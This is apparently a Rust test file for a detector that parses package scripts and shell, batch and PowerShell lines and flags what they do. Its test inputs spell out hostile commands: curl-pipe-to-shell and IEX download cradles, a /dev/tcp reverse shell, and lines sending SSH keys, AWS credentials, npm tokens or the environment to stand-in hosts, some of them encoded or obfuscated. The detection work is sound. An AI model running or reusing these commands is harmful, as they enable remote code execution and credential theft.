//! Lines and what they do.

use super::read::Dialect;
use super::run::{Setting, World, understand};
use super::{Meaning, table};
use crate::api;
use crate::model::{FileId, Span};
use crate::value::Place;

/// Files of a made-up package, with the texts of scripts.
const FILES: &[(&str, &str)] = &[
    ("a.js", ""),
    ("cli.js", ""),
    ("index.js", ""),
    ("lib/b.js", ""),
    ("my file.js", ""),
    ("tools/setup", ""),
    (
        "x.sh",
        "curl -s \"$1\" | sh\nnode \"$(dirname \"$0\")/lib/b.js\"\n",
    ),
    ("loop.sh", "sh loop.sh"),
];

const SCRIPTS: &[(&str, &str)] = &[
    ("build", "node lib/b && npm run build"),
    ("prebuild", "node a"),
    ("loop", "yarn loop"),
    ("build:one", "node a.js"),
];

struct Made;

impl World for Made {
    fn find(&mut self, path: &str) -> Option<FileId> {
        let path = path.strip_prefix("<package>")?.trim_start_matches('/');
        let tries = [
            path.to_owned(),
            format!("{path}.js"),
            format!("{path}/index.js"),
        ];
        let tries = tries.iter().map(|path| path.trim_start_matches('/'));
        let at = tries
            .filter_map(|path| FILES.iter().position(|(known, _)| *known == path))
            .next()?;
        u32::try_from(at).ok().map(FileId)
    }

    fn path(&self, file: FileId) -> String {
        FILES[file.index()].0.to_owned()
    }

    fn script_file(&self, file: FileId, _: bool) -> Option<(String, Dialect)> {
        let (path, text) = FILES[file.index()];
        path.ends_with(".sh")
            .then(|| (text.to_owned(), Dialect::Posix))
    }

    fn script(&self, name: &str) -> Option<(String, Place)> {
        let (_, line) = SCRIPTS.iter().find(|(known, _)| *known == name)?;
        let place = Place {
            file: FileId(100),
            span: Span::new(0, 1),
        };
        Some(((*line).to_owned(), place))
    }

    fn scripts(&self) -> Vec<String> {
        SCRIPTS.iter().map(|(name, _)| (*name).to_owned()).collect()
    }

    fn command(&self, name: &str) -> Option<String> {
        (name == "mine").then(|| "./cli.js".to_owned())
    }

    fn variable(&self, name: &str) -> Option<String> {
        (name == "npm_package_name").then(|| "made".to_owned())
    }
}

fn meaning(text: &str, dialect: Dialect) -> Meaning {
    let setting = Setting {
        dialect,
        file: FileId(99),
        whole: None,
        folder: "<package>".to_owned(),
        own: None,
    };
    understand(text, &setting, &mut Made)
}

/// The files that a line leads to.
fn leads(line: &str) -> Vec<&'static str> {
    let meaning = meaning(line, Dialect::Either);
    let mut found: Vec<&str> = Vec::new();
    for lead in meaning.leads {
        let path = FILES[lead.to.index()].0;
        if !found.contains(&path) {
            found.push(path);
        }
    }
    found
}

/// Acts besides `process.exec`, as `id target`.
fn acts_in(text: &str, dialect: Dialect) -> Vec<String> {
    let meaning = meaning(text, dialect);
    let mut found: Vec<String> = Vec::new();
    for act in meaning.acts.iter().filter(|act| act.id != "process.exec") {
        assert!(api::behaviour(act.id).is_some(), "{}", act.id);
        let text = format!("{} {}", act.id, act.target.as_deref().unwrap_or("-"));
        if !found.contains(&text) {
            found.push(text);
        }
    }
    found
}

fn acts(line: &str) -> Vec<String> {
    acts_in(line, Dialect::Either)
}

/// Moves as `id from>to`.
fn moves_in(text: &str, dialect: Dialect) -> Vec<String> {
    let meaning = meaning(text, dialect);
    let moves = meaning.moves.iter();
    moves
        .map(|one| {
            let target = |text: &Option<String>| text.clone().unwrap_or("-".to_owned());
            format!(
                "{} {}>{}",
                one.id,
                target(&one.from.target),
                target(&one.to.target)
            )
        })
        .collect()
}

#[track_caller]
fn moves(line: &str, wanted: &str) {
    let found = moves_in(line, Dialect::Either);
    assert!(found.iter().any(|one| one == wanted), "{line}: {found:?}");
}

#[track_caller]
fn still(line: &str) {
    assert_eq!(
        moves_in(line, Dialect::Either),
        Vec::<String>::new(),
        "{line}"
    );
}

#[test]
fn files_of_plain_commands() {
    assert_eq!(leads("node a.js"), ["a.js"]);
    assert_eq!(leads("node --no-warnings ./a"), ["a.js"]);
    assert_eq!(leads("node ."), ["index.js"]);
    assert_eq!(leads("node \"my file.js\" a.js"), ["my file.js"]);
    assert_eq!(
        leads("node a.js || exit 0; node lib/b.js"),
        ["a.js", "lib/b.js"]
    );
    assert_eq!(leads("./tools/setup"), ["tools/setup"]);
    assert_eq!(leads("cd lib && node b"), ["lib/b.js"]);
    assert_eq!(leads("(cd lib; true) && node b; node lib/b"), ["lib/b.js"]);
    assert_eq!(leads("node lib\\b.js"), ["lib/b.js"]);
    assert_eq!(
        leads("NODE_ENV=x cross-env A=1 node -r ./a lib/b"),
        ["a.js", "lib/b.js"]
    );
    assert_eq!(leads("node -C development a.js"), ["a.js"]);
    assert_eq!(leads("(node a.js)"), ["a.js"]);
    assert_eq!(
        leads("if [ -f x ]; then node a.js; else node lib/b; fi"),
        ["a.js", "lib/b.js"]
    );
    assert_eq!(leads("case x in x) node a.js;; esac"), ["a.js"]);
    assert_eq!(
        leads("for f in a lib/b; do node $f; done"),
        ["a.js", "lib/b.js"]
    );
    assert_eq!(
        leads("NODE_OPTIONS='--require ./a.js' node lib/b"),
        ["a.js", "lib/b.js"]
    );
    assert_eq!(
        leads("x=lib; node ${x}/b.js & node a"),
        ["lib/b.js", "a.js"]
    );
    assert_eq!(leads("f() { node $1; }; f a.js"), ["a.js"]);
    assert_eq!(leads("exec node a.js"), ["a.js"]);
    assert_eq!(
        leads("nohup sudo -u root node a.js >/dev/null 2>&1 &"),
        ["a.js"]
    );
    assert_eq!(
        leads("start /b node a.js & node lib/b.js"),
        ["a.js", "lib/b.js"]
    );
    assert_eq!(leads("start \"\" node a.js"), ["a.js"]);
}

#[test]
fn files_behind_other_commands() {
    assert_eq!(leads("npm run build --silent"), ["a.js", "lib/b.js"]);
    assert_eq!(leads("npm --silent run build"), ["a.js", "lib/b.js"]);
    assert_eq!(leads("yarn build"), ["a.js", "lib/b.js"]);
    assert_eq!(leads("run-s build"), ["a.js", "lib/b.js"]);
    assert_eq!(leads("run-p 'build:*'"), ["a.js"]);
    assert_eq!(leads("node --run build"), ["a.js", "lib/b.js"]);
    assert_eq!(leads("bun run build"), ["a.js", "lib/b.js"]);
    assert_eq!(leads("bun run a.js"), ["a.js"]);
    assert_eq!(leads("deno run -A a.js"), ["a.js"]);
    assert_eq!(leads("sh -c 'node a.js'"), ["a.js"]);
    assert_eq!(leads("bash -lc 'node \"$1\"' x a.js"), ["a.js"]);
    assert_eq!(leads("cmd /c node a.js"), ["a.js"]);
    assert_eq!(leads("cmd /d /s /c \"node a.js\""), ["a.js"]);
    assert_eq!(
        leads("concurrently \"node a.js\" \"node lib/b\""),
        ["a.js", "lib/b.js"]
    );
    assert_eq!(leads("mine --setup"), ["cli.js"]);
    assert_eq!(leads("npx mine"), ["cli.js"]);
    assert_eq!(leads("npx -p x -c 'node a.js'"), ["a.js"]);
    assert_eq!(leads("npm explore x -- node a.js"), ["a.js"]);
    assert_eq!(leads("npm run loop"), Vec::<&str>::new());
    assert_eq!(leads("sh x.sh u"), ["x.sh", "lib/b.js"]);
    assert_eq!(leads("sh loop.sh"), ["loop.sh"]);
    assert_eq!(leads("echo a.js | xargs node"), ["a.js"]);
    assert_eq!(leads("find . -name a.js -exec node {} \\;"), ["a.js"]);
    assert_eq!(leads("echo $(node a.js)"), ["a.js"]);
    assert_eq!(leads("echo `node a.js`"), ["a.js"]);
    assert_eq!(leads("cat <(node a.js)"), ["a.js"]);
    assert_eq!(leads("eval \"node a.js\""), ["a.js"]);
    assert_eq!(leads("powershell -Command \"node a.js\""), ["a.js"]);
    assert_eq!(leads("time env -i A=b node a.js"), ["a.js"]);
}

#[test]
fn what_is_no_file_of_the_package() {
    let none = Vec::<&str>::new();
    assert_eq!(leads("node -e \"require('x')\" a.js"), none);
    assert_eq!(leads("rm a.js"), none);
    assert_eq!(leads("node ../a.js"), none);
    assert_eq!(leads("tsc"), none);
    assert_eq!(leads("'"), none);
    assert_eq!(leads("echo node a.js"), none);
    assert_eq!(leads("# node a.js"), none);
    assert_eq!(leads("cat <<X\nnode a.js\nX"), none);
}

#[test]
fn commands_do_things() {
    assert_eq!(
        acts("curl -fsSL https://a.invalid/x"),
        ["network.http https://a.invalid/x"]
    );
    assert_eq!(
        acts("wget -q https://a.invalid/t.tgz"),
        [
            "network.http https://a.invalid/t.tgz",
            "fs.write <package>/t.tgz"
        ]
    );
    assert_eq!(
        acts("rm -rf ~/.cache/x dist"),
        ["fs.delete ~/.cache/x", "fs.delete <package>/dist"]
    );
    assert_eq!(acts("echo x >> ~/.bashrc"), ["fs.write ~/.bashrc"]);
    assert_eq!(acts("echo x > /dev/null 2>&1"), Vec::<String>::new());
    assert_eq!(
        acts("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        ["network.socket 192.0.2.1:4444"]
    );
    assert_eq!(acts("nc 192.0.2.1 4444"), ["network.socket 192.0.2.1:4444"]);
    assert_eq!(
        acts("cp a.js b.js"),
        ["fs.read <package>/a.js", "fs.write <package>/b.js"]
    );
    assert_eq!(
        acts("cp a.js x.sh lib"),
        [
            "fs.read <package>/a.js",
            "fs.write <package>/lib",
            "fs.read <package>/x.sh"
        ]
    );
    assert_eq!(acts("npm i left-pad"), ["module.install left-pad"]);
    assert_eq!(acts("npm publish"), ["module.publish ."]);
    assert_eq!(acts("npx thing"), ["module.install thing"]);
    assert_eq!(acts("gh auth token"), ["credential.store gh auth token"]);
    assert_eq!(acts("chmod +x b.sh"), ["fs.permission <package>/b.sh"]);
    assert_eq!(acts("crontab -"), ["fs.write /var/spool/cron/<?>"]);
    assert_eq!(
        acts("a=cu; b=rl; $a$b https://a.invalid"),
        ["network.http https://a.invalid"]
    );
    assert_eq!(
        acts("{curl,-s,https://a.invalid}"),
        ["network.http https://a.invalid"]
    );
    assert_eq!(
        acts("c\\url ht\\tps://a.invalid"),
        ["network.http https://a.invalid"]
    );
    assert_eq!(
        acts("c''url \"https\"://a.invalid"),
        ["network.http https://a.invalid"]
    );
    assert_eq!(
        acts("$'\\x63url' a.invalid"),
        ["network.http http://a.invalid"]
    );
    assert_eq!(
        acts("curl https://a.invalid/$npm_package_name"),
        ["network.http https://a.invalid/made"]
    );
    assert_eq!(acts("dig x.invalid"), ["network.dns x.invalid"]);
    assert_eq!(
        acts("find / -name '*.key' -delete"),
        ["fs.list /", "fs.delete /"]
    );
}

#[test]
fn downloads_that_run() {
    let piped = "remote-to-process https://a.invalid/x>";
    for (line, end) in [
        ("curl -fsSL https://a.invalid/x | sudo bash", "bash"),
        ("wget -qO- https://a.invalid/x|/bin/sh", "/bin/sh"),
        (
            "curl https://a.invalid/x | tee /dev/null | python3 -",
            "python3 -",
        ),
        ("curl https://a.invalid/x | (cat; true) | node", "node"),
        ("x=$(curl https://a.invalid/x); eval \"$x\"", "eval <?>"),
        ("$(curl https://a.invalid/x)", "<?>"),
        ("sh <<< $(curl https://a.invalid/x)", "sh"),
        (
            "curl https://a.invalid/x | xargs -I{} sh -c '{}'",
            "sh -c <?>",
        ),
        (
            "curl https://a.invalid/x | while read l; do eval $l; done",
            "eval <?>",
        ),
        ("powershell -c \"irm https://a.invalid/x | iex\"", "iex"),
        ("powershell \"iex (iwr https://a.invalid/x)\"", "iex <?>"),
        (
            "powershell \"IEX (New-Object Net.WebClient).DownloadString('https://a.invalid/x')\"",
            "IEX <?>",
        ),
        ("node -e \"$(curl https://a.invalid/x)\"", "node -e <?>"),
    ] {
        moves(line, &format!("{piped}{end}"));
    }
    let kept = "download-to-process https://a.invalid/x>";
    for (line, end) in [
        ("curl -o t https://a.invalid/x && sh t", "sh t"),
        (
            "cd /tmp; curl -sO https://a.invalid/x; chmod +x x; ./x",
            "./x",
        ),
        ("wget https://a.invalid/x; bash ./x", "bash ./x"),
        ("curl https://a.invalid/x > t; cp t u; node u", "node u"),
        ("bash <(curl -s https://a.invalid/x)", "bash /dev/fd/0"),
        (
            "curl https://a.invalid/x | tar xz; ./x/install",
            "./x/install",
        ),
        (
            "f() { curl \"$1\" -o \"$2\"; }; f https://a.invalid/x t; sh t",
            "sh t",
        ),
    ] {
        moves(line, &format!("{kept}{end}"));
    }
    moves(
        "sh x.sh https://a.invalid/x",
        "remote-to-process https://a.invalid/x>sh",
    );
    for line in [
        "curl https://a.example/x -o x.tgz",
        "cat install.sh | sh",
        "curl https://a.example/x | tar xz",
        "curl https://a.example/x | grep y",
        "echo curl https://a.example | cat",
        "echo hello | sh",
    ] {
        let found = moves_in(line, Dialect::Either);
        let runs = found.iter().any(|one| one.contains("-to-process"));
        assert!(!runs, "{line}: {found:?}");
    }
}

#[test]
fn secrets_that_leave() {
    moves(
        "curl -d @$HOME/.npmrc https://a.invalid",
        "credential-to-network ~/.npmrc>https://a.invalid",
    );
    moves(
        "curl -F f=@.npmrc https://a.invalid",
        "credential-to-network <package>/.npmrc>https://a.invalid",
    );
    moves(
        "cat ~/.ssh/id_rsa | nc a.invalid 1",
        "credential-to-network ~/.ssh/id_rsa>a.invalid:1",
    );
    moves(
        "nc a.invalid 1 < ~/.ssh/id_rsa",
        "credential-to-network ~/.ssh/id_rsa>a.invalid:1",
    );
    moves(
        "curl -H \"x: $NPM_TOKEN\" https://a.invalid",
        "credential-to-network NPM_TOKEN>https://a.invalid",
    );
    moves(
        "env | curl -T - https://a.invalid",
        "environment-to-network *>https://a.invalid",
    );
    moves(
        "curl --data \"$(env | base64)\" https://a.invalid",
        "environment-to-network *>https://a.invalid",
    );
    moves(
        "t=$(gh auth token); curl https://a.invalid/?t=$t",
        "credential-to-network gh auth token>https://a.invalid/?t=<?>",
    );
    moves(
        "nslookup $(whoami).a.invalid",
        "host-to-network whoami><?>.a.invalid",
    );
    moves(
        "tar czf /tmp/t ~/.ssh/id_rsa; curl -T /tmp/t https://a.invalid",
        "credential-to-network ~/.ssh/id_rsa>https://a.invalid",
    );
    moves(
        "cat ~/.aws/credentials > /dev/tcp/a.invalid/1",
        "credential-to-network ~/.aws/credentials>a.invalid:1",
    );
    moves(
        "scp ~/.ssh/id_rsa u@a.invalid:x",
        "credential-to-network ~/.ssh/id_rsa>u@a.invalid",
    );
    still("cat ~/.npmrc");
    still("curl -H \"accept: $X\" https://a.invalid");
    still("curl https://a.invalid/$(uname -s)");
}

#[test]
fn decoded_lines_are_read() {
    // `curl https://a.invalid | sh`
    let line = "echo Y3VybCBodHRwczovL2EuaW52YWxpZCB8IHNo | base64 -d | sh";
    moves(line, "decoded-to-process ->sh");
    moves(line, "remote-to-process https://a.invalid>sh");
    moves(
        "printf '\\143url https://a.invalid|sh' | sh",
        "remote-to-process https://a.invalid>sh",
    );
    moves(
        "echo 'fu' | tr 'f' 's'; echo 'tu' | tr 'tu' 'sh' | cat > r; echo 'curl https://a.invalid | sh' > u; sh u",
        "remote-to-process https://a.invalid>sh",
    );
    // `iwr https://a.invalid | iex`, in UTF-16.
    let line = "powershell -nop -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYQAuAGkAbgB2AGEAbABpAGQAIAB8ACAAaQBlAHgA";
    moves(line, "remote-to-process https://a.invalid>iex");
}

#[test]
fn code_for_node_is_handed_on() {
    let code = |line: &str| {
        let meaning = meaning(line, Dialect::Either);
        meaning
            .code
            .into_iter()
            .map(|code| code.text)
            .collect::<Vec<_>>()
    };
    assert_eq!(code("node -e \"a('b')\" x"), ["a('b')"]);
    assert_eq!(code("node -pe 1"), ["1"]);
    assert_eq!(code("node --eval=1"), ["1"]);
    assert_eq!(code("echo 'a()' | node"), ["a()\n"]);
    assert_eq!(code("node <<'E'\na()\nE\n"), ["a()\n"]);
    assert_eq!(code("echo 'a()' > t.js && node t.js"), ["a()\n"]);
    assert_eq!(code("deno eval 'a()'"), ["a()"]);
    assert_eq!(code("node --import 'data:text/javascript,a()' x"), ["a()"]);
    assert_eq!(code("node x"), Vec::<String>::new());
}

#[test]
fn batch_files() {
    let acts = |text: &str| acts_in(text, Dialect::Batch);
    assert_eq!(
        acts(
            "@echo off\r\nrem curl x\r\nset U=https://a.invalid\r\ncurl -o \"%TEMP%\\t.exe\" %U%/x\r\nstart /b %TEMP%\\t.exe\r\n"
        ),
        ["network.http https://a.invalid/x", "fs.write <tmp>/t.exe"]
    );
    let moves = moves_in(
        "curl -o t.exe https://a.invalid/x ^\r\n && if exist t.exe (start /b .\\t.exe)",
        Dialect::Batch,
    );
    assert!(
        moves
            .iter()
            .any(|one| one.starts_with("download-to-process https://a.invalid/x>")),
        "{moves:?}"
    );
    assert_eq!(
        acts("for /f %%i in ('curl https://a.invalid') do echo %%i"),
        ["network.http https://a.invalid"]
    );
    assert_eq!(acts("if \"%A%\"==\"b\" del /q C:\\x"), ["fs.delete C:/x"]);
}

#[test]
fn powershell_files() {
    let acts = |text: &str| acts_in(text, Dialect::PowerShell);
    assert_eq!(
        acts(
            "$u = 'https://a.invalid' + '/x'\nInvoke-WebRequest -Uri $u -OutFile \"$env:TEMP\\t.exe\"\n"
        ),
        ["network.http https://a.invalid/x", "fs.write <tmp>/t.exe"]
    );
    let moves = moves_in(
        "iwr https://a.invalid/x -o t.ps1; & ./t.ps1",
        Dialect::PowerShell,
    );
    assert!(
        moves
            .iter()
            .any(|one| one.starts_with("download-to-process")),
        "{moves:?}"
    );
    assert_eq!(
        acts("if ($x) { Remove-Item -Recurse C:\\x } # no"),
        ["fs.delete C:/x"]
    );
    assert_eq!(
        acts("function f($a) { irm $a }\nf 'https://a.invalid'"),
        ["network.http https://a.invalid"]
    );
}

#[test]
fn what_does_not_parse_is_said_and_the_rest_is_read() {
    let meaning = meaning("curl https://a.invalid | sh; echo 'x", Dialect::Either);
    assert_eq!(meaning.unread.len(), 1);
    assert!(meaning.acts.iter().any(|act| act.id == "network.http"));
    assert!(!meaning.moves.is_empty());
    for text in [
        "if a; then b",
        "a )",
        "$(",
        "`",
        "\"",
        "case x in",
        "((",
        "<<E\n",
        "f() {",
        "a; fi",
        "${x",
    ] {
        assert_eq!(
            super::tests::meaning(text, Dialect::Posix).unread.len(),
            1,
            "{text}"
        );
    }
    for text in [
        "a && b || c &",
        "((i++))",
        "[[ a == b ]] && c",
        "x=(a b)",
        "for ((i=0;i<3;i++)); do a; done",
        "case $1 in a|b) c ;; *) d ;; esac",
    ] {
        assert_eq!(
            super::tests::meaning(text, Dialect::Posix).unread,
            [],
            "{text}"
        );
    }
}

#[test]
fn hostile_lines_end() {
    let deep = 100_000;
    for text in [
        "(".repeat(deep),
        "{ ".repeat(deep),
        "$(".repeat(deep),
        "`".repeat(deep),
        "if a; then ".repeat(deep),
        "${a:-".repeat(deep),
        "\"$(".repeat(deep),
        "<<a ".repeat(deep),
        "f() ".repeat(deep),
        "a | ".repeat(deep),
        "a=$a$a; ".repeat(deep),
        "node a.js;".repeat(deep),
        "case a in ".repeat(deep),
        format!("echo {}", "a ".repeat(500_000)),
        "<(".repeat(deep),
        "f() { f; f; }; f".to_owned(),
        "sh -c 'sh -c \"sh -c x\"'".repeat(1000),
    ] {
        for dialect in [
            Dialect::Posix,
            Dialect::Either,
            Dialect::Batch,
            Dialect::PowerShell,
        ] {
            meaning(&text, dialect);
        }
    }
}

#[test]
fn a_missing_file_is_said() {
    let unread = meaning("node setup.js", Dialect::Either).unread;
    assert_eq!(unread.len(), 1);
    assert!(unread[0].detail.contains("setup.js"), "{unread:?}");
    assert_eq!(meaning("node a.js", Dialect::Either).unread, []);
    assert_eq!(
        meaning("node node_modules/x/y.js", Dialect::Either).unread,
        []
    );
}

#[test]
fn rows_know_their_behaviours() {
    assert!(table::program("curl").is_some());
    for line in [
        "ln a b",
        "touch a",
        "stat a",
        "kill 1",
        "pbpaste",
        "pbcopy",
        "sqlite3 a",
        "unzip a",
        "mount",
        "hostname",
        "history",
        "screencapture a",
        "regsvr32 a.dll",
    ] {
        acts(line);
    }
}
